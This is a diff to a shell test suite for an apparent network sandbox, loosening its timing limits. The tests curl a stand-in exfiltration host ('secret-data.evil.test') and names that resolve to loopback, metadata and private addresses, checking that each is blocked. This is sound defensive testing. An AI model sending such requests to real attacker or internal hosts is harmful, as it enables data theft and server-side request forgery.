@@ -19,7 +19,7 @@ ok 'what is not allowed: NXDOMAIN, no query leaves, within a second' '
 	: >"$T/dns.log"
 	begin=$(date +%s%N)
 	rc_is 6 run --allow good.test -- curl -sS --max-time 5 http://secret-data.evil.test/
-	[ $(($(date +%s%N) - begin)) -lt 1500000000 ]
+	[ $(($(date +%s%N) - begin)) -lt $(patient 1500)000000 ]
 	! queries | grep -q evil'
 ok 'an address is not a name: a direct connect is refused' '
 	rc_is 56 run --allow good.test -- curl -sS --max-time 3 http://45.45.0.2/page || rc_is 22 run --allow good.test -- curl -sSf --max-time 3 http://45.45.0.2/page'
@@ -41,7 +41,7 @@ for name in loop meta private tail mapped linklocal nat64; do
 	ok "a name that resolves to $name is refused" '
 		begin=$(date +%s%N)
 		! run --allow $1.test -- curl -sSf --max-time 3 http://$1.test/page || exit 1
-		[ $(($(date +%s%N) - begin)) -lt 2000000000 ]' "$name"
+		[ $(($(date +%s%N) - begin)) -lt $(patient 2000)000000 ]' "$name"
 done
 ok 'the same address by a rule that names it' '
 	cat >"$T/tail.yaml" <<END
